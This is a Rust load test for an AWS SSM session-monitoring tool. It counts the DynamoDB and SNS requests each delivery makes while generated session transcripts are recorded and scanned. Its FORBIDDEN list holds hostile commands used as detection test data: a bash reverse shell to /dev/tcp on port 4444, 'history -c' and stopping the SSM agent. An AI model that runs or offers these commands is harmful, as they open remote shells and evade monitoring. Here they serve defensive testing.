//! Load: generated sessions and their transcripts through the recorder and scanner on the AWS
//! adapters against moto server, one delivery after another, counting every DynamoDB and SNS
//! request each delivery makes (an SDK interceptor sees each attempt, as AWS bills them) and
//! timing it. Fails when a delivery writes more than its share:
//!
//! - a CloudTrail event: at most one write of the session item; a redelivered event none; each
//!   alert it raises one claim and one sent mark (two alert-item puts) and one publish;
//! - a transcript batch in which nothing is found: exactly one write (the session item, which
//!   notes the transcript), no finding, no alert, no publish;
//! - a transcript batch with findings: the session item once, or twice when a rule terminates
//!   (the termination is recorded), one put per finding, one alert for the batch.
//!
//! Each session is a StartSession (one in ten without MFA, which alerts), `batches` transcript
//! batches of `lines` lines in `LINES_PER_EVENT`-line log events (one session in 25 types a
//! command a default rule alerts on or terminates for in its last batch), and a
//! TerminateSession; one session in 20 has its StartSession delivered twice.
//!
//! Run by `scripts/test` (`--ignored`, it needs moto server) at 200 sessions and 20,000 lines;
//! `WARDEN_LOAD_FULL=1` runs 10,000 sessions and 1,000,000 lines (issue 13, item 3);
//! `WARDEN_LOAD_SESSIONS=N` any number of sessions of 100 lines.

#[path = "support/moto.rs"]
mod moto;
#[path = "support/session_pair.rs"]
mod session_pair;

use aws_sdk_dynamodb::config::interceptors::BeforeTransmitInterceptorContextRef;
use aws_sdk_dynamodb::config::{ConfigBag, Intercept, RuntimeComponents};
use aws_sdk_dynamodb::error::BoxError;
use serde_json::Value;
use std::collections::BTreeMap;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use warden_core::aws::{DynamoStore, SnsNotifier};
use warden_core::config::WardenConfig;
use warden_core::handlers::recorder::Recorder;
use warden_core::handlers::scanner::Scanner;
use warden_core::local::DryRunTerminator;
use warden_core::transcript::payload::{
    LogEvent, LogsBatch, StreamIdentity, StreamRecord, StreamTarget, encode_subscription,
};

/// Lines of one session's transcript.
const LINES_PER_SESSION: usize = 100;
/// Transcript batches per session (CloudWatch Logs delivers a stream in several).
const BATCHES_PER_SESSION: usize = 2;
/// Lines per streamed record (one log event).
const LINES_PER_EVENT: usize = 5;
const CI_SESSIONS: usize = 200;
const FULL_SESSIONS: usize = 10_000;

// ---------------------------------------------------------------------------------------------
// Counting requests

/// One request as AWS bills it: service, operation, and for DynamoDB the kind of item (`META`
/// the session, `ALERT` an alert mark, `FINDING` a finding), e.g. `DynamoDB PutItem META`.
fn request_name(target: Option<&str>, body: &[u8]) -> String {
    if let Some(target) = target {
        // DynamoDB's JSON protocol: `X-Amz-Target: DynamoDB_20120810.PutItem`.
        let operation = target.rsplit('.').next().unwrap_or(target);
        let body: Value = serde_json::from_slice(body).unwrap_or(Value::Null);
        let sk = body["Item"]["sk"]["S"]
            .as_str()
            .or(body["Key"]["sk"]["S"].as_str())
            .map(|sk| sk.split('#').next().unwrap_or(sk).to_string());
        return match sk {
            Some(kind) => format!("DynamoDB {operation} {kind}"),
            None => format!("DynamoDB {operation}"),
        };
    }
    // SNS's query protocol: `Action=Publish&...`.
    let body = String::from_utf8_lossy(body);
    let action = body
        .split('&')
        .find_map(|pair| pair.strip_prefix("Action="))
        .unwrap_or("?");
    format!("SNS {action}")
}

#[derive(Debug, Clone, Default)]
struct Counter {
    counts: Arc<Mutex<BTreeMap<String, u64>>>,
}

impl Counter {
    fn snapshot(&self) -> BTreeMap<String, u64> {
        self.counts.lock().unwrap().clone()
    }
}

impl Intercept for Counter {
    fn name(&self) -> &'static str {
        "RequestCounter"
    }

    fn read_before_transmit(
        &self,
        context: &BeforeTransmitInterceptorContextRef<'_>,
        _components: &RuntimeComponents,
        _cfg: &mut ConfigBag,
    ) -> Result<(), BoxError> {
        let request = context.request();
        let name = request_name(
            request.headers().get("x-amz-target"),
            request.body().bytes().unwrap_or_default(),
        );
        *self.counts.lock().unwrap().entry(name).or_insert(0) += 1;
        Ok(())
    }
}

/// The requests one delivery made: `after - before`.
fn made(before: &BTreeMap<String, u64>, after: &BTreeMap<String, u64>) -> BTreeMap<String, u64> {
    after
        .iter()
        .map(|(name, n)| (name.clone(), n - before.get(name).copied().unwrap_or(0)))
        .filter(|(_, n)| *n > 0)
        .collect()
}

fn count(requests: &BTreeMap<String, u64>, name: &str) -> u64 {
    requests.get(name).copied().unwrap_or(0)
}

/// Writes of any kind: the puts (alert marks and findings are put, never updated).
fn writes(requests: &BTreeMap<String, u64>) -> u64 {
    requests
        .iter()
        .filter(|(name, _)| {
            name.starts_with("DynamoDB PutItem")
                || name.starts_with("DynamoDB UpdateItem")
                || name.starts_with("DynamoDB DeleteItem")
                || name.starts_with("DynamoDB BatchWriteItem")
                || name.starts_with("DynamoDB TransactWriteItems")
        })
        .map(|(_, n)| n)
        .sum()
}

#[test]
fn requests_are_named_by_service_operation_and_item_kind() {
    assert_eq!(
        request_name(
            Some("DynamoDB_20120810.PutItem"),
            br#"{"TableName":"t","Item":{"pk":{"S":"SESSION#s"},"sk":{"S":"ALERT#no_mfa"}}}"#
        ),
        "DynamoDB PutItem ALERT"
    );
    assert_eq!(
        request_name(
            Some("DynamoDB_20120810.GetItem"),
            br#"{"TableName":"t","Key":{"pk":{"S":"SESSION#s"},"sk":{"S":"META"}}}"#
        ),
        "DynamoDB GetItem META"
    );
    assert_eq!(
        request_name(Some("DynamoDB_20120810.Query"), br#"{"TableName":"t"}"#),
        "DynamoDB Query"
    );
    assert_eq!(
        request_name(None, b"Action=Publish&Version=2010-03-31&TopicArn=x"),
        "SNS Publish"
    );
    let mut requests = BTreeMap::new();
    requests.insert("DynamoDB PutItem META".to_string(), 1);
    requests.insert("DynamoDB PutItem ALERT".to_string(), 2);
    requests.insert("DynamoDB GetItem META".to_string(), 5);
    assert_eq!(writes(&requests), 3);
}

// ---------------------------------------------------------------------------------------------
// The sessions

#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum Kind {
    Start,
    StartRedelivered,
    Terminate,
    BatchNothingFound,
    BatchWithFindings,
}

impl Kind {
    fn name(self) -> &'static str {
        match self {
            Kind::Start => "StartSession",
            Kind::StartRedelivered => "StartSession again",
            Kind::Terminate => "TerminateSession",
            Kind::BatchNothingFound => "batch, nothing found",
            Kind::BatchWithFindings => "batch with findings",
        }
    }
}

enum Input {
    CloudTrail(Value),
    Transcript(Value),
}

struct Delivery {
    kind: Kind,
    input: Input,
}

fn read_json(path: &Path) -> Value {
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// Commands a benign administrator types, with a line of output each.
const BENIGN: &[(&str, &str)] = &[
    (
        "ls -la /opt/app",
        "drwxr-xr-x 3 root root 4096 Nov 24 10:02 .",
    ),
    ("df -h /", "/dev/nvme0n1p1   20G  6.1G   14G  31% /"),
    (
        "tail -n 1 /var/log/nginx/access.log",
        "198.51.100.23 - - [24/Nov/2026:10:01:02 +0000] \"GET / HTTP/1.1\" 200 612",
    ),
    (
        "sudo systemctl status nginx",
        "     Active: active (running) since Mon 2026-11-23 08:00:01 UTC",
    ),
    ("grep -c ERROR /var/log/app/app.log", "0"),
    (
        "git -C /opt/app log --oneline -1",
        "4f2a9c1 Fix health check path",
    ),
];

/// Commands default rules alert on or terminate for.
const FORBIDDEN: &[&str] = &[
    "history -c",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "sudo systemctl stop amazon-ssm-agent",
];

/// Session `i`'s deliveries: its start (twice for one in 20), its transcript batches, its end.
fn session(
    i: usize,
    start_template: &Value,
    end_template: &Value,
    lines_per_session: usize,
) -> Vec<Delivery> {
    let user = format!("load{i:05}");
    let session_id = format!("{user}-{:017x}", 0x10ad_0000_u64 + i as u64);
    let arn = format!("arn:aws:sts::111122223333:assumed-role/Admin/{user}");
    // Tuesday 2026-11-24 from 09:00, business hours, a second apart.
    let started: jiff::Timestamp = "2026-11-24T09:00:00Z".parse().unwrap();
    let started = started + jiff::SignedDuration::from_secs(i as i64);
    let ended = started + jiff::SignedDuration::from_mins(30);

    let (start, end) = session_pair::start_and_end(
        &session_pair::GeneratedSession {
            index: i,
            user: &user,
            session_id: &session_id,
            started,
            ended,
            mfa: !i.is_multiple_of(10),
            event_id_prefix: "20000000",
            delivery_id_prefix: "30000000",
        },
        start_template,
        end_template,
    );

    // Prompt and output lines; one session in 25 ends with a forbidden command.
    let mut lines = Vec::with_capacity(lines_per_session);
    let mut n = 0;
    while lines.len() < lines_per_session {
        let (command, output) = BENIGN[(i + n) % BENIGN.len()];
        lines.push(format!("sh-5.2$ {command}"));
        lines.push(output.to_string());
        n += 1;
    }
    lines.truncate(lines_per_session);
    let forbidden = i % 25 == 3;
    if forbidden {
        let last = lines.len() - 2;
        lines[last] = format!("sh-5.2$ {}", FORBIDDEN[(i / 25) % FORBIDDEN.len()]);
    }

    let mut deliveries = vec![Delivery {
        kind: Kind::Start,
        input: Input::CloudTrail(start.clone()),
    }];
    if i % 20 == 7 {
        deliveries.push(Delivery {
            kind: Kind::StartRedelivered,
            input: Input::CloudTrail(start),
        });
    }
    let per_batch = lines.len().div_ceil(BATCHES_PER_SESSION);
    let batches: Vec<&[String]> = lines.chunks(per_batch).collect();
    let mut event_number = 0usize;
    for (b, batch_lines) in batches.iter().enumerate() {
        let log_events = batch_lines
            .chunks(LINES_PER_EVENT)
            .map(|chunk| {
                let at = started + jiff::SignedDuration::from_secs(60 + event_number as i64);
                event_number += 1;
                let message = serde_json::to_string(&StreamRecord {
                    event_version: Some("1.0".into()),
                    event_time: Some(at.to_string()),
                    aws_region: Some("eu-west-1".into()),
                    target: Some(StreamTarget {
                        id: Some("i-0c4d5e6f7a8b90123".into()),
                    }),
                    user_identity: Some(StreamIdentity {
                        arn: Some(arn.clone()),
                    }),
                    run_as_user: Some("ssm-user".into()),
                    session_id: Some(session_id.clone()),
                    session_data: chunk.to_vec(),
                })
                .unwrap();
                LogEvent {
                    id: format!("{:0>20}{event_number:0>36}", at.as_millisecond()),
                    timestamp: at.as_millisecond(),
                    message,
                }
            })
            .collect();
        let batch = LogsBatch {
            message_type: "DATA_MESSAGE".into(),
            owner: "111122223333".into(),
            log_group: "/aws/ssm/session-logs".into(),
            log_stream: session_id.clone(),
            subscription_filters: vec!["session-warden".into()],
            log_events,
        };
        let last = b + 1 == batches.len();
        deliveries.push(Delivery {
            kind: if forbidden && last {
                Kind::BatchWithFindings
            } else {
                Kind::BatchNothingFound
            },
            input: Input::Transcript(encode_subscription(&batch)),
        });
    }
    deliveries.push(Delivery {
        kind: Kind::Terminate,
        input: Input::CloudTrail(end),
    });
    deliveries
}

// ---------------------------------------------------------------------------------------------
// Figures

/// Requests and times of every delivery of one kind.
#[derive(Default)]
struct Figures {
    deliveries: usize,
    requests: BTreeMap<String, u64>,
    /// The most requests one delivery of this kind made, by name, and the most writes.
    most: BTreeMap<String, u64>,
    most_writes: u64,
    times: Vec<Duration>,
}

impl Figures {
    fn add(&mut self, requests: &BTreeMap<String, u64>, took: Duration) {
        self.deliveries += 1;
        for (name, n) in requests {
            *self.requests.entry(name.clone()).or_insert(0) += n;
            let most = self.most.entry(name.clone()).or_insert(0);
            *most = (*most).max(*n);
        }
        self.most_writes = self.most_writes.max(writes(requests));
        self.times.push(took);
    }

    fn percentile(&self, p: f64) -> Duration {
        let mut times = self.times.clone();
        times.sort();
        let index = ((times.len() as f64 - 1.0) * p).round() as usize;
        times.get(index).copied().unwrap_or_default()
    }

    fn mean(&self) -> Duration {
        self.times.iter().sum::<Duration>() / self.times.len().max(1) as u32
    }
}

fn ms(d: Duration) -> String {
    format!("{:.1}", d.as_secs_f64() * 1000.0)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs moto server; scripts/test runs it"]
async fn each_delivery_makes_its_share_of_requests_and_no_more() {
    let Some(moto_url) = moto::endpoint() else {
        return;
    };
    let full = std::env::var_os("WARDEN_LOAD_FULL").is_some_and(|v| v != "0");
    let sessions = match std::env::var("WARDEN_LOAD_SESSIONS") {
        Ok(text) => text
            .parse()
            .unwrap_or_else(|_| panic!("WARDEN_LOAD_SESSIONS={text:?} is not a number")),
        Err(_) if full => FULL_SESSIONS,
        Err(_) => CI_SESSIONS,
    };
    let direct = moto::sdk_config(&moto_url).await;
    let table = moto::unique("load");
    moto::create_table(&aws_sdk_dynamodb::Client::new(&direct), &table).await;
    let topic = aws_sdk_sns::Client::new(&direct)
        .create_topic()
        .name(moto::unique("load"))
        .send()
        .await
        .unwrap()
        .topic_arn
        .unwrap();
    let counter = Counter::default();
    let dynamo = aws_sdk_dynamodb::Client::from_conf(
        aws_sdk_dynamodb::config::Builder::from(&direct)
            .interceptor(counter.clone())
            .build(),
    );
    let sns = aws_sdk_sns::Client::from_conf(
        aws_sdk_sns::config::Builder::from(&direct)
            .interceptor(counter.clone())
            .build(),
    );
    let store = DynamoStore::new(dynamo, &table, 30);
    let notifier = SnsNotifier::new(sns, &topic);
    let config = WardenConfig::from_lookup(|_| None).unwrap();
    let recorder = Recorder::new(
        store.clone(),
        notifier.clone(),
        DryRunTerminator::new(),
        config.clone(),
    );
    let scanner = Scanner::new(
        store,
        notifier,
        DryRunTerminator::new(),
        config,
        warden_core::rules::default_rules(),
    );
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("events/1-cloudtrail");
    let start_template = read_json(&dir.join("03-start-role-without-mfa.json"));
    let end_template = read_json(&dir.join("04-terminate-role-without-mfa.json"));
    println!(
        "load: {sessions} sessions, {} transcript lines in {} batches, against moto at {moto_url}",
        sessions * LINES_PER_SESSION,
        sessions * BATCHES_PER_SESSION
    );

    let began = Instant::now();
    let mut figures: BTreeMap<Kind, Figures> = BTreeMap::new();
    let mut problems: Vec<String> = Vec::new();
    let (mut lines, mut alerts, mut findings) = (0usize, 0usize, 0usize);
    for i in 0..sessions {
        for delivery in session(i, &start_template, &end_template, LINES_PER_SESSION) {
            let before = counter.snapshot();
            let clock = Instant::now();
            // What the delivery raised: alerts, findings.
            let (raised, found) = match &delivery.input {
                Input::CloudTrail(event) => {
                    let recorded = recorder
                        .handle(event)
                        .await
                        .unwrap_or_else(|e| panic!("session {i} {:?}: {e}", delivery.kind));
                    (recorded.alerts.len(), 0)
                }
                Input::Transcript(event) => {
                    let scanned = scanner
                        .handle(event)
                        .await
                        .unwrap_or_else(|e| panic!("session {i} {:?}: {e}", delivery.kind));
                    lines += scanned.lines;
                    (scanned.alerts.len(), scanned.findings.len())
                }
            };
            let took = clock.elapsed();
            let requests = made(&before, &counter.snapshot());
            alerts += raised;
            findings += found;
            let raised = raised as u64;
            let session_writes = count(&requests, "DynamoDB PutItem META");
            let mut problem = |why: String| {
                if problems.len() < 20 {
                    problems.push(format!(
                        "session {i} {}: {why}: {requests:?}",
                        delivery.kind.name()
                    ))
                }
            };
            match delivery.kind {
                Kind::Start | Kind::Terminate => {
                    if session_writes > 1 {
                        problem(format!("{session_writes} writes of the session"));
                    }
                    if writes(&requests) != session_writes + 2 * raised {
                        problem(format!(
                            "{} writes for {raised} alerts (the session once, each alert's claim and mark)",
                            writes(&requests)
                        ));
                    }
                }
                Kind::StartRedelivered => {
                    if writes(&requests) > 0 || raised > 0 {
                        problem("a redelivered event wrote or paged".into());
                    }
                }
                Kind::BatchNothingFound => {
                    if found > 0 || writes(&requests) != 1 || session_writes != 1 {
                        problem(format!(
                            "{found} findings, {} writes ({session_writes} of the session) for a \
                             batch in which nothing is expected to be found",
                            writes(&requests)
                        ));
                    }
                }
                Kind::BatchWithFindings => {
                    if found == 0 || raised != 1 {
                        problem(format!("{found} findings, {raised} alerts"));
                    }
                    if session_writes > 2 {
                        problem(format!("{session_writes} writes of the session"));
                    }
                    let expected = session_writes + found as u64 + 2 * raised;
                    if writes(&requests) != expected {
                        problem(format!(
                            "{} writes, expected {expected} (the session, each finding, the alert's claim and mark)",
                            writes(&requests)
                        ));
                    }
                }
            }
            if count(&requests, "SNS Publish") != raised {
                problem(format!("{raised} alerts raised"));
            }
            figures
                .entry(delivery.kind)
                .or_default()
                .add(&requests, took);
        }
        if full && (i + 1) % 1000 == 0 {
            println!(
                "  {} sessions in {:.0} s",
                i + 1,
                began.elapsed().as_secs_f64()
            );
        }
    }
    let seconds = began.elapsed().as_secs_f64();
    let total_deliveries: usize = figures.values().map(|f| f.deliveries).sum();

    println!(
        "\n{:<22}{:>8}  {:>9}{:>9}{:>9}{:>9}  requests per delivery (mean; most in one)",
        "delivery", "count", "mean ms", "p50 ms", "p99 ms", "max ms"
    );
    for (kind, f) in &figures {
        let per: Vec<String> = f
            .requests
            .iter()
            .map(|(name, n)| {
                format!(
                    "{name} {:.2} ({})",
                    *n as f64 / f.deliveries as f64,
                    f.most[name]
                )
            })
            .collect();
        println!(
            "{:<22}{:>8}  {:>9}{:>9}{:>9}{:>9}  writes ≤ {}; {}",
            kind.name(),
            f.deliveries,
            ms(f.mean()),
            ms(f.percentile(0.5)),
            ms(f.percentile(0.99)),
            ms(f.percentile(1.0)),
            f.most_writes,
            per.join(", ")
        );
    }
    let all = counter.snapshot();
    println!(
        "\n{sessions} sessions, {lines} transcript lines, {total_deliveries} deliveries in {seconds:.1} s \
         ({:.1} ms per delivery, {:.0} lines/s); {findings} findings, {alerts} alerts; \
         {} DynamoDB requests ({} writes), {} SNS publishes",
        seconds * 1000.0 / total_deliveries as f64,
        lines as f64 / seconds,
        all.iter()
            .filter(|(name, _)| name.starts_with("DynamoDB"))
            .map(|(_, n)| n)
            .sum::<u64>(),
        writes(&all),
        count(&all, "SNS Publish"),
    );

    assert_eq!(
        lines,
        sessions * LINES_PER_SESSION,
        "the scanner did not see every line"
    );
    assert!(alerts > 0 && findings > 0, "the load raised nothing");
    assert!(
        problems.is_empty(),
        "deliveries made more requests than their share:\n{}",
        problems.join("\n")
    );
}
